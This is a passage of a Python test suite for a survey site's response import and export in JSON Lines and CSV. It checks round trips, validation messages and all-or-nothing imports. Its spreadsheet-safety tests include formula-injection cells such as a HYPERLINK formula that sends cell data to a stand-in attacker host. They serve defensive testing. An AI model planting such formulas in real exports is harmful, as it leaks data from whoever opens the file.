"""`responses import` and `responses export`: JSON Lines and CSV, checked like live answers, round trips exact."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import gc
import io
import json
import multiprocessing
import os
import re
import shutil
import signal
import sys
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from postgres_fixtures import REFUSED_PREFIX, add_refusal_rule
from sqlalchemy import create_engine

from sitegen import cli, interchange
from sitegen.answers import read_json
from sitegen.cli import main
from sitegen.forked_chunks import WorkerFailed
from sitegen.interchange import Format, ImportReport, export_responses, import_responses, jsonl_line
from sitegen.question_types import TYPES
from sitegen.site import Site, load_site
from sitegen.spreadsheet_cells import neutralised, restored
from sitegen.store import ResponseStore, StoredResponse
from sitegen.store.anonymity import anonymous_key
from sitegen.store.engine import database_url
from sitegen.versions import SurveyVersion, survey_version, version_of

REPOSITORY = Path(__file__).parent.parent
EXAMPLE_FILES = ("sitegen.yaml", "assets", "surveys", "content", "data")
EXTENSIONS: dict[Format, str] = {"jsonl": ".jsonl", "csv": ".csv"}

SAMPLES: list[tuple[str, str, dict[str, Any]]] = [
    (
        "after-visit",
        "2026-05-01T10:00:00Z",
        {
            "rid": "visit-0001",
            "lang": "lv",
            "meta": {"location": "riga-centre"},
            "answers": {
                "recommend": 6,
                "improve": 'Rinda bija gara; kafija — auksta, "latte" ne tā.\nOtrā rindā: 👍🏽',
                "satisfaction": 4,
                "greeted": "yes",
                "aspects": {"coffee": 5, "food": 3, "cleanliness": 4, "speed": 2, "friendliness": 5},
                "expectations": "below",
                "stood_out": "  spaces kept, commas, too  ",
                "effort": 7,
                "visit_reason": "coffee-to-go",
                "liked": ["coffee", "staff", "speed"],
                "email": "anna@example.com",
            },
        },
    ),
    (
        "after-visit",
        "2026-05-01T13:00:00.25+03:00",
        {"rid": "visit-0002", "lang": "ru", "answers": {"recommend": 10, "aspects": {"coffee": 1}}},
    ),
    (
        "complaint-log",
        "2026-05-02T08:15:00Z",
        {
            "rid": "complaint-01",
            "lang": "en",
            "meta": {"location": "jelgava"},
            "answers": {
                "opened_at": "2026-05-02T09:30",
                "channel": "phone",
                "what_happened": "Wrong cake: \"Napoleon\", not 'Medovik'.\n\nGuest upset; =SUM(A1)",
                "severity": 3,
                "affected_customers": 12,
                "root_cause": "order-error",
                "action_taken": "Refund",
                "customer_contacted": "no",
                "resolved_at": "2026-05-02T17:45:10",
                "prevention": "Read the order back",
                "logged_by": "Anna",
            },
        },
    ),
    (
        "employee-annual",
        "2026-11-19T22:00:00Z",  # midnight in Riga: anonymous surveys keep only the day,
        {
            "rid": "employee-001",
            "lang": "lv",
            "meta": {"location": "riga-mall"},
            "answers": {
                "role": "barista",
                "years": 2.5,
                "standards_clear": 5,
                "standards_possible": 2,
                "training": 4,
                "tools": 3,
                "management_feedback": 4,
                "management_listens": 1,
                "help_most": ["schedule", "staffing", "equipment", "training"],
                "recommend_workplace": "no",
                "recommend_why_not": "Grafiks",
                "ideas": "Vairāk kafijas pauzēs ☕",
                "consent": "2026-11",
            },
        },
    ),
    (
        "journey-order",
        "2026-05-03T12:00:00Z",
        {
            "rid": "order-000001",
            "lang": "en",
            "meta": {"location": "riga-centre", "stage": "order"},
            "answers": {
                "order_date": "2026-04-30",
                "ease": 2,
                "order_ok": "no",
                "problem": "Late",
                "suggestion": "SMS when ready",
            },
        },
    ),
]
EMPLOYEE_REQUIRED: dict[str, Any] = {
    **dict.fromkeys(
        ("standards_clear", "standards_possible", "training", "tools", "management_feedback", "management_listens"), 3
    ),
    "consent": "2026-11",
}
"""The answers the example's employee survey requires."""


@pytest.fixture(scope="session")
def example_project_files(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A copy of the example site at the repository root (its surveys use every question type), without the store
    `make site` leaves in data/: each test starts from an empty one."""
    project = tmp_path_factory.mktemp("example")
    for name in EXAMPLE_FILES:
        source = REPOSITORY / name
        if source.is_dir():
            shutil.copytree(source, project / name, ignore=shutil.ignore_patterns("responses.sqlite3*"))
        else:
            shutil.copy(source, project / name)
    return project


@pytest.fixture(scope="session")
def site(example_project_files: Path) -> Site:
    return load_site(example_project_files)


@pytest.fixture
def project(example_project_files: Path, tmp_path: Path, store_url: str) -> Path:
    """A copy of the example project whose sitegen.yaml names this test's store."""
    copy = tmp_path / "project"
    shutil.copytree(example_project_files, copy)
    config = copy / "sitegen.yaml"
    text, replaced = re.subn(r"(?m)^store:.*$", f"store: {store_url}", config.read_text(encoding="utf-8"))
    assert replaced == 1
    config.write_text(text, encoding="utf-8")
    return copy


def stored(site: Site, survey_id: str, submitted_at: str, document: dict[str, Any]) -> StoredResponse:
    """A response as the collector would store it (through read_json, the one set of rules) and reads it back.

    An anonymous one reads back under its key (a hash of its id).
    """
    survey = next(source.model for source in site.surveys if source.model.id == survey_id)
    submission = read_json(survey, site.languages, document)
    moment = dt.datetime.fromisoformat(submitted_at).astimezone(dt.UTC)
    return StoredResponse(
        anonymous_key(submission.response_id) if survey.is_anonymous else submission.response_id,
        survey_id,
        survey_version(survey),
        moment,
        submission.lang,
        submission.meta,
        submission.answers,
        is_anonymous=survey.is_anonymous,
    )


@pytest.fixture
def samples(site: Site) -> list[StoredResponse]:
    """SAMPLES as stored; the first also has the user agent the collector records for a customer survey."""
    responses = [stored(site, *sample) for sample in SAMPLES]
    responses[0] = dataclasses.replace(
        responses[0], meta={**responses[0].meta, "user_agent": "Mozilla/5.0 (Android 14; Mobile)"}
    )
    return responses


@pytest.fixture
def memory_store(tmp_path: Path) -> Iterator[ResponseStore]:
    with ResponseStore.open("sqlite://", tmp_path) as opened:
        yield opened


def keep(site: Site, store: ResponseStore, responses: list[StoredResponse]) -> None:
    """Store responses as the collector does: each survey's version kept, first seen at its first response."""
    surveys = {source.model.id: source.model for source in site.surveys}
    firsts: dict[str, dt.datetime] = {}
    for response in responses:
        firsts[response.survey_id] = min(firsts.get(response.survey_id, response.submitted_at), response.submitted_at)
    store.record_versions([version_of(surveys[survey_id], first) for survey_id, first in firsts.items()])
    store.add(responses)


def version_in(site: Site, survey_id: str) -> str:
    return survey_version(next(source.model for source in site.surveys if source.model.id == survey_id))


def export_text(site: Site, store: ResponseStore, file_format: Format = "jsonl", survey_id: str | None = None) -> str:
    output = io.StringIO()
    export_responses(site, store, output, file_format=file_format, survey_id=survey_id)
    return output.getvalue()


def write(directory: Path, name: str, text: str) -> Path:
    path = directory / name
    path.write_text(text, encoding="utf-8", newline="")
    return path


def run(*args: str) -> Any:
    return CliRunner().invoke(main, list(args), catch_exceptions=False)


# ---- round trips -------------------------------------------------------------------------------


def test_the_samples_answer_every_question_type(site: Site) -> None:
    question_types = set(TYPES)  # the built-in types: this process loads no plugin
    answered = set()
    for survey_id, _, document in SAMPLES:
        survey = next(source.model for source in site.surveys if source.model.id == survey_id)
        answered |= {survey.question(question_id).type for question_id in document["answers"]}  # type: ignore[union-attr]
    assert answered == question_types


@pytest.mark.parametrize("file_format", ["jsonl", "csv"])
def test_export_then_import_gives_identical_rows(
    site: Site,
    store: ResponseStore,
    memory_store: ResponseStore,
    samples: list[StoredResponse],
    tmp_path: Path,
    file_format: Format,
) -> None:
    store.add(samples)
    path = write(tmp_path, "export" + EXTENSIONS[file_format], export_text(site, store, file_format))
    report = import_responses(site, memory_store, [path])
    assert (report.new, report.existing, report.problems) == (len(samples), 0, [])
    assert (
        list(memory_store.responses())
        == list(store.responses())
        == sorted(samples, key=lambda r: (r.submitted_at, r.id))
    )


@pytest.mark.parametrize("file_format", ["jsonl", "csv"])
def test_import_then_export_gives_the_same_file(
    site: Site,
    store: ResponseStore,
    memory_store: ResponseStore,
    samples: list[StoredResponse],
    tmp_path: Path,
    file_format: Format,
) -> None:
    keep(site, memory_store, samples)
    exported = export_text(site, memory_store, file_format)
    import_responses(site, store, [write(tmp_path, "in" + EXTENSIONS[file_format], exported)])
    assert export_text(site, store, file_format) == exported
    assert store.versions() == memory_store.versions()


CONTROL = "".join(chr(code) for code in [*range(0x09), 0x0B, 0x0C, *range(0x0E, 0x20), *range(0x7F, 0xA0)])
TEXT = st.text(
    st.characters(blacklist_categories=("Cs", "Cn", "Zl", "Zp"), blacklist_characters=CONTROL), min_size=1, max_size=80
)  # control characters and noncharacters are refused, line separators become line breaks


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(improve=TEXT, stood_out=TEXT, file_format=st.sampled_from(["jsonl", "csv"]))
def test_any_text_survives_a_round_trip(
    site: Site, tmp_path_factory: pytest.TempPathFactory, improve: str, stood_out: str, file_format: Format
) -> None:
    answers = {"recommend": 3, "improve": improve, "expectations": "exceeded", "stood_out": stood_out}
    response = stored(site, "after-visit", "2026-05-01T10:00:00Z", {"rid": "text-0001", "answers": answers})
    directory = tmp_path_factory.mktemp("text")
    with ResponseStore.open("sqlite://", directory) as source, ResponseStore.open("sqlite://", directory) as target:
        source.add([response])
        path = write(directory, "text" + EXTENSIONS[file_format], export_text(site, source, file_format))
        report = import_responses(site, target, [path])
        assert report.problems == []
        assert list(target.responses()) == [response]


# ---- the export formats ------------------------------------------------------------------------


def test_a_json_lines_export_is_the_design_documents_shape(
    site: Site, memory_store: ResponseStore, samples: list[StoredResponse]
) -> None:
    memory_store.add(samples[:2])
    assert export_text(site, memory_store, survey_id="after-visit").splitlines()[1] == (
        f'{{"id": "visit-0002", "survey": "after-visit", "version": "{version_in(site, "after-visit")}", '
        '"submitted_at": "2026-05-01T10:00:00.250000Z", "lang": "ru", '
        '"meta": {"stage": "purchase"}, "answers": {"aspects": {"coffee": 1}, "recommend": 10}}'
    )
    assert jsonl_line(samples[4]).startswith(
        f'{{"id": "order-000001", "survey": "journey-order", "version": "{version_in(site, "journey-order")}", '
        '"submitted_at": "2026-05-03T12:00:00Z", "lang": "en", '
    )


def test_a_csv_export_has_a_column_per_question_matrix_item_and_meta_key(
    site: Site, memory_store: ResponseStore, samples: list[StoredResponse]
) -> None:
    memory_store.add(samples)
    lines = export_text(site, memory_store, "csv", survey_id="after-visit").splitlines()
    assert lines[0] == (
        "id,survey,version,submitted_at,lang,meta.location,meta.stage,meta.user_agent,recommend,improve,satisfaction,"
        "greeted,"
        "aspects.coffee,aspects.food,aspects.cleanliness,aspects.speed,aspects.friendliness,"
        "expectations,stood_out,effort,visit_reason,liked,email"
    )
    version = version_in(site, "after-visit")
    assert lines[1].startswith(
        f"visit-0001,after-visit,{version},2026-05-01T10:00:00Z,lv,riga-centre,purchase,"
        'Mozilla/5.0 (Android 14; Mobile),6,"Rinda bija gara;'
    )
    assert lines[-1] == f"visit-0002,after-visit,{version},2026-05-01T10:00:00.250000Z,ru,,purchase,,10,,,,1,,,,,,,,,,"
    assert ",coffee;staff;speed,anna@example.com" in export_text(site, memory_store, "csv")


def test_a_ranking_is_one_cell_in_rank_order_and_a_consent_its_version_both_ways(
    site: Site, memory_store: ResponseStore, samples: list[StoredResponse], tmp_path: Path
) -> None:
    memory_store.add(samples)
    rows = list(csv.DictReader(io.StringIO(export_text(site, memory_store, "csv", survey_id="employee-annual"))))
    assert (rows[0]["help_most"], rows[0]["consent"]) == ("schedule;staffing;equipment;training", "2026-11")
    rows[0]["help_most"] = "training;schedule;staffing;equipment"
    path = tmp_path / "edited.csv"
    with path.open("w", encoding="utf-8", newline="") as out:
        writer = csv.DictWriter(out, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    with ResponseStore.open("sqlite://", tmp_path) as fresh:
        assert not import_responses(site, fresh, [path]).problems
        (response,) = fresh.responses("employee-annual")
    assert response.answers["help_most"] == ["training", "schedule", "staffing", "equipment"]
    assert response.answers["consent"] == "2026-11"


def test_export_is_deterministic(site: Site, memory_store: ResponseStore, samples: list[StoredResponse]) -> None:
    memory_store.add(list(reversed(samples)))
    for file_format in ("jsonl", "csv"):
        assert export_text(site, memory_store, file_format) == export_text(site, memory_store, file_format)
    assert [json.loads(line)["id"] for line in export_text(site, memory_store).splitlines()] == [
        "visit-0001",
        "visit-0002",
        "complaint-01",
        "order-000001",
        anonymous_key("employee-001"),
    ]


def test_responses_of_a_survey_the_site_no_longer_has_are_still_exported(
    site: Site, memory_store: ResponseStore
) -> None:
    old = StoredResponse(
        "retired-1",
        "retired",
        "0" * 16,
        dt.datetime(2026, 5, 1, 10, tzinfo=dt.UTC),
        "lv",
        {},
        {"b": [1, 2], "a": {"x": 1}},
    )
    memory_store.add([old])
    assert export_text(site, memory_store, "csv", "retired").splitlines() == [
        "id,survey,version,submitted_at,lang,a.x,b",
        f"retired-1,retired,{'0' * 16},2026-05-01T10:00:00Z,lv,1,1;2",
    ]


# ---- import: ids, times, validation -----------------------------------------------------------


def line(**fields: Any) -> str:
    """A JSON Lines line of a valid after-visit response, with `fields` replaced (None: left out)."""
    record = {
        "survey": "after-visit",
        "submitted_at": "2026-05-01T10:00:00Z",
        "lang": "lv",
        "meta": {"location": "jelgava"},
        "answers": {"recommend": 9},
    }
    record.update(fields)
    return json.dumps({key: value for key, value in record.items() if value is not None}, ensure_ascii=False)


def test_a_line_without_an_id_gets_a_stable_one_from_its_content(
    site: Site, memory_store: ResponseStore, tmp_path: Path
) -> None:
    path = write(tmp_path, "a.jsonl", "\n".join([line(), line(answers={"recommend": 8})]) + "\n")
    import_responses(site, memory_store, [path])
    first = [response.id for response in memory_store.responses()]
    assert len(set(first)) == 2 and all(re.fullmatch(r"[0-9a-f]{32}", rid) for rid in first)
    report = import_responses(site, memory_store, [path])
    assert (report.new, report.existing) == (0, 2)


def test_identical_lines_of_a_file_are_different_responses_imported_once(
    site: Site, memory_store: ResponseStore, tmp_path: Path
) -> None:
    path = write(tmp_path, "same.jsonl", f"{line()}\n{line()}\n{line()}\n")
    assert import_responses(site, memory_store, [path]).new == 3
    assert import_responses(site, memory_store, [path]).new == 0
    assert memory_store.count() == 3


def test_a_file_holding_lines_of_another_adds_only_its_new_lines(
    site: Site, memory_store: ResponseStore, tmp_path: Path
) -> None:
    old = write(tmp_path, "old.jsonl", f"{line()}\n")
    new = write(tmp_path, "new.jsonl", f"{line()}\n{line(lang='en')}\n")
    report = import_responses(site, memory_store, [old, new])
    assert (report.new, report.existing) == (2, 1)


def test_a_derived_id_does_not_depend_on_how_the_content_was_written(
    site: Site, memory_store: ResponseStore, tmp_path: Path
) -> None:
    import_responses(site, memory_store, [write(tmp_path, "a.jsonl", line())])
    rewritten = write(tmp_path, "b.jsonl", line(answers={"recommend": "9"}, submitted_at="2026-05-01T13:00:00+03:00"))
    report = import_responses(site, memory_store, [rewritten])
    assert (report.new, report.existing) == (0, 1)


def test_a_given_id_is_kept(site: Site, memory_store: ResponseStore, tmp_path: Path) -> None:
    import_responses(site, memory_store, [write(tmp_path, "a.jsonl", line(id="my-own-id-1"))])
    assert memory_store.get("my-own-id-1") is not None


def test_submitted_at_with_an_offset_is_stored_in_utc(site: Site, memory_store: ResponseStore, tmp_path: Path) -> None:
    import_responses(
        site,
        memory_store,
        [write(tmp_path, "a.jsonl", line(id="offset-0001", submitted_at="2026-05-01T02:30:00-05:00"))],
    )
    response = memory_store.get("offset-0001")
    assert response is not None and jsonl_line(response).count('"submitted_at": "2026-05-01T07:30:00Z"') == 1


def test_the_user_agent_the_collector_records_is_imported_back(
    site: Site, memory_store: ResponseStore, tmp_path: Path
) -> None:
    path = write(
        tmp_path, "ua.jsonl", line(id="with-agent-1", meta={"location": "jelgava", "user_agent": "Mozilla/5.0 (X11)"})
    )
    assert import_responses(site, memory_store, [path]).new == 1
    response = memory_store.get("with-agent-1")
    assert response is not None and response.meta == {
        "location": "jelgava",
        "stage": "purchase",
        "user_agent": "Mozilla/5.0 (X11)",
    }


def test_an_anonymous_survey_takes_no_user_agent(site: Site, memory_store: ResponseStore, tmp_path: Path) -> None:
    answers = EMPLOYEE_REQUIRED
    path = write(
        tmp_path, "ua.jsonl", line(survey="employee-annual", meta={"user_agent": "Mozilla/5.0"}, answers=answers)
    )
    assert [str(problem) for problem in import_responses(site, memory_store, [path]).problems] == [
        f"{path}:1: user_agent: This is not a field of this survey."
    ]


def test_every_bad_line_is_reported_by_file_and_line_and_nothing_is_imported(
    site: Site, memory_store: ResponseStore, tmp_path: Path
) -> None:
    lines = [
        line(id="good-line-1"),
        line(survey="after-visti"),
        "",
        line(answers={"recommend": "lots", "liked": ["coffee", "tea"]}),
        line(submitted_at="2026-05-01T10:00:00"),
        line(submitted_at=None),
        line(submitted_at="1 May 2026"),
        line(submitted_at="2026-05-01"),
        line(survey=None, extra=1),
        line(id="x"),
        line(meta={"location": "moon"}, lang="de"),
        '{"survey": "after-visit",',
        "[1, 2]",
    ]
    path = write(tmp_path, "bad.jsonl", "\n".join(lines) + "\n")
    report = import_responses(site, memory_store, [path])
    assert report.is_refused and report.invalid_lines == 11
    assert [str(problem) for problem in report.problems] == [
        f"{path}:2: survey 'after-visti' does not exist. Did you mean 'after-visit'?",
        f"{path}:4: recommend: Enter a number.",
        f"{path}:4: liked: Choose one of the answers offered.",
        f"{path}:5: submitted_at: '2026-05-01T10:00:00' has no time zone; add Z (UTC) or an offset such as +03:00",
        f"{path}:6: submitted_at: missing; give the date and time such as 2026-05-01T10:00:00Z",
        f'{path}:7: submitted_at: "1 May 2026" is not an ISO 8601 date and time such as 2026-05-01T10:00:00Z',
        f"{path}:8: submitted_at: '2026-05-01' has no time zone; add Z (UTC) or an offset such as +03:00",
        f"{path}:9: extra: unknown key; a line holds id, survey, version, submitted_at, lang, meta, answers",
        f"{path}:9: survey: missing; name the survey id, such as after-visit",
        f"{path}:10: id: The response id is not valid.",
        f"{path}:11: lang: This language is not offered.",
        f"{path}:11: location: This value is not allowed here.",
        f"{path}:12: not valid JSON: Expecting property name enclosed in double quotes (column 26)",
        f'{path}:13: expected one JSON object per line: {{"survey": ..., "answers": {{...}}}}',
    ]
    assert memory_store.count() == 0


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ('{"survey": "after-visit", "answers": ' + "[" * 1200 + "]" * 1200 + "}", "nested more than 16 deep"),
        ('{"survey": "after-visit", "answers": {"recommend": 5, "recommend": 9}}', '"recommend" is given twice'),
        ('{"survey": "after-visit", "answers": {"recommend": NaN}}', "NaN is not a JSON number"),
    ],
    ids=["nested 1,200 deep", "a name given twice", "NaN"],
)
def test_a_line_is_read_as_strictly_as_the_collector_reads_a_body(
    site: Site, memory_store: ResponseStore, tmp_path: Path, text: str, problem: str
) -> None:
    path = write(tmp_path, "strict.jsonl", text + "\n")
    report = import_responses(site, memory_store, [path])
    assert report.is_refused and [(item.line, problem in item.message) for item in report.problems] == [(1, True)]
    assert memory_store.count() == 0


def test_text_no_back_end_can_keep_is_a_line_problem_not_a_crash(
    site: Site, memory_store: ResponseStore, tmp_path: Path
) -> None:
    path = write(tmp_path, "nul.jsonl", line(id="nul-answer", answers={"recommend": 3, "improve": "a\u0000b"}))
    assert [str(problem) for problem in import_responses(site, memory_store, [path]).problems] == [
        f"{path}:1: improve: Remove the invisible control characters from your answer."
    ]


def test_skip_invalid_imports_the_valid_lines_and_reports_the_rest(
    site: Site, memory_store: ResponseStore, tmp_path: Path
) -> None:
    path = write(
        tmp_path,
        "mixed.jsonl",
        "\n".join([line(id="good-line-1"), line(answers={"recommend": 11}), line(id="good-line-2")]),
    )
    report = import_responses(site, memory_store, [path], skip_invalid=True)
    assert not report.is_refused
    assert [str(problem) for problem in report.problems] == [f"{path}:2: recommend: Enter a number from 0 to 10."]
    assert report.summary() == "Imported 2 new responses (0 already stored) from 1 file. Skipped 1 invalid line."
    assert [response.id for response in memory_store.responses()] == ["good-line-1", "good-line-2"]


def test_one_bad_file_stops_the_import_of_every_file(site: Site, memory_store: ResponseStore, tmp_path: Path) -> None:
    good = write(tmp_path, "good.jsonl", line())
    bad = write(tmp_path, "bad.csv", "survey,submitted_at,recommend\nafter-visit,2026-05-01T10:00:00Z,99\n")
    report = import_responses(site, memory_store, [good, bad])
    assert [str(problem) for problem in report.problems] == [f"{bad}:2: recommend: Enter a number from 0 to 10."]
    assert memory_store.count() == 0


def test_csv_problems_name_the_line_where_the_row_starts(
    site: Site, memory_store: ResponseStore, tmp_path: Path
) -> None:
    text = (
        "survey,submitted_at,lang,meta.location,recommend,improve,liked\n"
        'after-visit,2026-05-01T10:00:00Z,lv,jelgava,5,"two\nlines",coffee;staff\n'
        "\n"
        "after-visit,2026-05-01T10:00:00Z,lv,jelgava,5,,coffee;tea\n"
        "after-visit,2026-05-01T10:00:00Z,lv\n"
        "after-visit,2026-05-01T10:00:00Z,lv,jelgava,ten,,\n"
    )
    path = write(tmp_path, "rows.csv", text)
    assert [str(problem) for problem in import_responses(site, memory_store, [path]).problems] == [
        f"{path}:5: liked: Choose one of the answers offered.",
        f"{path}:6: this row has 3 fields, the header 7",
        f"{path}:7: recommend: Enter a number.",
    ]


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("", "expected a header row: id, survey, version, submitted_at, lang, then meta.<key> and question columns"),
        ("survey,recommend\n", "missing column 'submitted_at'"),
        ("survey,submitted_at,recommend,recommend\n", "column 'recommend' appears more than once"),
    ],
)
def test_a_csv_file_without_a_usable_header_is_one_problem(
    site: Site, memory_store: ResponseStore, tmp_path: Path, text: str, message: str
) -> None:
    path = write(tmp_path, "head.csv", text)
    assert [str(problem) for problem in import_responses(site, memory_store, [path]).problems] == [
        f"{path}:1: {message}"
    ]


def test_a_csv_with_a_byte_order_mark_and_crlf_lines_is_read(
    site: Site, memory_store: ResponseStore, tmp_path: Path
) -> None:
    path = tmp_path / "excel.csv"
    path.write_bytes(
        (
            "\ufeffid,survey,submitted_at,recommend,improve\r\n"
            "excel-0001,after-visit,2026-05-01T10:00:00Z,7,Ļoti labi\r\n"
        ).encode()
    )
    assert import_responses(site, memory_store, [path]).new == 1
    response = memory_store.get("excel-0001")
    assert response is not None and response.answers == {"recommend": 7, "improve": "Ļoti labi"}


def test_a_line_that_is_not_utf8_is_reported_and_the_others_still_read(
    site: Site, memory_store: ResponseStore, tmp_path: Path
) -> None:
    path = tmp_path / "latin.jsonl"
    path.write_bytes(
        line().encode() + b"\n" + line(answers={"improve": "x"}).encode().replace(b'"x"', b'"\xe9"') + b"\n"
    )
    report = import_responses(site, memory_store, [path])
    assert [str(problem) for problem in report.problems] == [f"{path}:2: not UTF-8 text; save the file as UTF-8"]


def test_an_imported_anonymous_answer_is_kept_apart_under_its_key_and_comes_back_to_it(
    site: Site, store: ResponseStore, store_url: str, tmp_path: Path
) -> None:
    answers = EMPLOYEE_REQUIRED
    path = write(tmp_path, "anon.jsonl", line(id="anon-000001", survey="employee-annual", meta={}, answers=answers))
    assert import_responses(site, store, [path]).new == 1
    [kept] = store.responses()
    assert kept.is_anonymous and kept.id == anonymous_key("anon-000001")
    engine = create_engine(database_url(store_url, tmp_path))
    with engine.connect() as connection:
        assert connection.exec_driver_sql("SELECT count(*) FROM responses").scalar() == 0
    engine.dispose()
    exported = write(tmp_path, "exported.jsonl", export_text(site, store))
    for again in (path, exported):  # the client's id and the exported key are the same response
        report = import_responses(site, store, [again])
        assert (report.new, report.existing, report.problems) == (0, 1, [])
    assert list(store.responses()) == [kept]


# ---- import is one transaction -----------------------------------------------------------------

FILE_LINES = 750
REFUSED_LINES = [1, 500, 501, 701, 750]
"""First and last lines, both sides of a batch boundary (500), and line 701, where issue 11 found one."""
SURROGATE = "improve: Remove the invisible control characters from your answer."
DATABASE_REFUSAL = "cannot be stored: "


def surrogate_line(response_id: str) -> str:
    """A line whose answer holds a lone surrogate: valid JSON (`\\ud800`), but no Unicode text."""
    return line(id=response_id, answers={"recommend": 3, "improve": "lone SURROGATE"}).replace("SURROGATE", "\\ud800")


@pytest.mark.parametrize("refused_line", REFUSED_LINES)
@pytest.mark.parametrize(
    ("caught_by", "skip_invalid", "message", "imported"),
    [
        ("check", False, SURROGATE, 0),
        ("check", True, SURROGATE, FILE_LINES - 1),
        ("store", False, DATABASE_REFUSAL, 0),
        ("store", True, DATABASE_REFUSAL, 0),
    ],
    ids=["at check time", "at check time, skipped", "at store time", "at store time, not skippable"],
)
def test_a_line_that_cannot_be_stored_leaves_the_store_as_it_was_and_is_named_by_its_line(
    site: Site,
    store: ResponseStore,
    store_url: str,
    samples: list[StoredResponse],
    tmp_path: Path,
    caught_by: str,
    skip_invalid: bool,
    message: str,
    imported: int,
    refused_line: int,
) -> None:
    if caught_by == "store":  # a rule of the database that sitegen's checks do not know refuses the line
        add_refusal_rule(store_url, tmp_path)
    store.add(samples)
    before = export_text(site, store)
    refused = surrogate_line("line-refused") if caught_by == "check" else line(id=f"{REFUSED_PREFIX}line")
    lines = [
        refused if number == refused_line else line(id=f"line-{number:04d}") for number in range(1, FILE_LINES + 1)
    ]
    path = write(tmp_path, "surrogate.jsonl", "\n".join(lines) + "\n")
    report = import_responses(site, store, [path], skip_invalid=skip_invalid)
    assert [(problem.path, problem.line) for problem in report.problems] == [(str(path), refused_line)]
    assert message in report.problems[0].message
    assert report.is_refused == (imported == 0)
    assert store.count() == len(samples) + imported
    if not imported:
        assert export_text(site, store) == before


def test_cli_names_the_line_the_store_refused_without_a_traceback(
    project: Path, tmp_path: Path, store_url: str
) -> None:
    ResponseStore.open(store_url, project).close()  # the tables, for the database's own rule
    add_refusal_rule(store_url, project)
    lines = [line(id=f"line-{number:04d}") for number in range(1, 3)]
    path = write(tmp_path, "in.jsonl", "\n".join([*lines, line(id=f"{REFUSED_PREFIX}0003")]))
    result = CliRunner().invoke(main, ["-C", str(project), "responses", "import", str(path)])
    assert result.exit_code == 1 and result.exception is not None and isinstance(result.exception, SystemExit)
    assert result.stderr.startswith(f"{path}:3: cannot be stored: ")
    assert result.stderr.endswith("Stopped: the store refused a line. Nothing was imported.\n")
    assert "Traceback" not in result.output
    exported = run("-C", str(project), "responses", "export")
    assert exported.stdout == ""


# ---- CSV cells a spreadsheet would run -----------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
        ("+41 79 000 00 00", "'+41 79 000 00 00"),
        ("-3", "'-3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'", "''"),
        ("'=1", "''=1"),
        ("''", "'''"),
        ("a=1", "a=1"),
        (" =1", " =1"),
        ("", ""),
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_marked_as_text_and_import_unmarks_it(cell: str, written: str) -> None:
    assert neutralised(cell) == written
    assert restored(written) == cell


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def test_a_csv_export_has_no_cell_that_starts_a_formula_and_imports_back_unchanged(
    site: Site, store: ResponseStore, memory_store: ResponseStore, tmp_path: Path
) -> None:
    hostile = [
        stored(
            site,
            "after-visit",
            "2026-05-01T10:00:00Z",
            {
                "rid": f"-hostile-{n:03d}",
                "answers": {"recommend": 3, "improve": text, "expectations": "exceeded", "stood_out": "'" + text},
            },
        )
        for n, text in enumerate(["=SUM(A1)", "+1", "-2", "@x", "\t=1", "\r=1", "'=1", "''", "plain"])
    ]
    user_agent = '=HYPERLINK("http://evil.example","x")'
    hostile[0] = dataclasses.replace(hostile[0], meta={**hostile[0].meta, "user_agent": user_agent})
    store.add(hostile)
    exported = export_text(site, store, "csv")
    cells = [cell for row in csv.reader(io.StringIO(exported, newline="")) for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    report = import_responses(site, memory_store, [write(tmp_path, "export.csv", exported)])
    assert report.problems == []
    assert list(memory_store.responses()) == list(store.responses())


STARTS = st.sampled_from(["", "=", "+", "-", "@", "\t", "\r", "'", "'=", "''", "'\t"])
META_TEXT = st.text(st.characters(codec="utf-8", blacklist_characters="\x00"), min_size=1, max_size=40)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    improve=st.tuples(STARTS, TEXT).map("".join),
    stood_out=st.tuples(STARTS, TEXT).map("".join),
    user_agent=st.tuples(STARTS, META_TEXT).map("".join),
    file_format=st.sampled_from(["jsonl", "csv"]),
)
def test_any_text_answer_and_meta_survive_export_then_import(
    site: Site,
    store: ResponseStore,
    tmp_path_factory: pytest.TempPathFactory,
    improve: str,
    stood_out: str,
    user_agent: str,
    file_format: Format,
) -> None:
    rid = f"text-{uuid.uuid4().hex}"  # one target store serves every example
    answers = {"recommend": 3, "improve": improve, "expectations": "exceeded", "stood_out": stood_out}
    response = stored(site, "after-visit", "2026-05-01T10:00:00Z", {"rid": rid, "answers": answers})
    response = dataclasses.replace(response, meta={**response.meta, "user_agent": user_agent})
    directory = tmp_path_factory.mktemp("text")
    with ResponseStore.open("sqlite://", directory) as source:
        source.add([response])
        path = write(directory, "text" + EXTENSIONS[file_format], export_text(site, source, file_format))
    report = import_responses(site, store, [path])
    assert report.problems == []
    assert store.get(rid) == response


# ---- the command line --------------------------------------------------------------------------


def test_cli_import_then_export_round_trips_through_the_projects_store(
    project: Path, site: Site, samples: list[StoredResponse], tmp_path: Path
) -> None:
    with ResponseStore.open("sqlite://", tmp_path) as source:
        keep(site, source, samples)
        exported = export_text(site, source)
    path = write(tmp_path, "in.jsonl", exported)
    imported = run("-C", str(project), "responses", "import", str(path))
    assert (imported.exit_code, imported.stdout) == (0, "Imported 5 new responses (0 already stored) from 1 file.\n")
    again = run("-C", str(project), "responses", "import", str(path))
    assert again.stdout == "Imported 0 new responses (5 already stored) from 1 file.\n"
    exported_again = run("-C", str(project), "responses", "export")
    assert (exported_again.exit_code, exported_again.stdout, exported_again.stderr) == (
        0,
        exported,
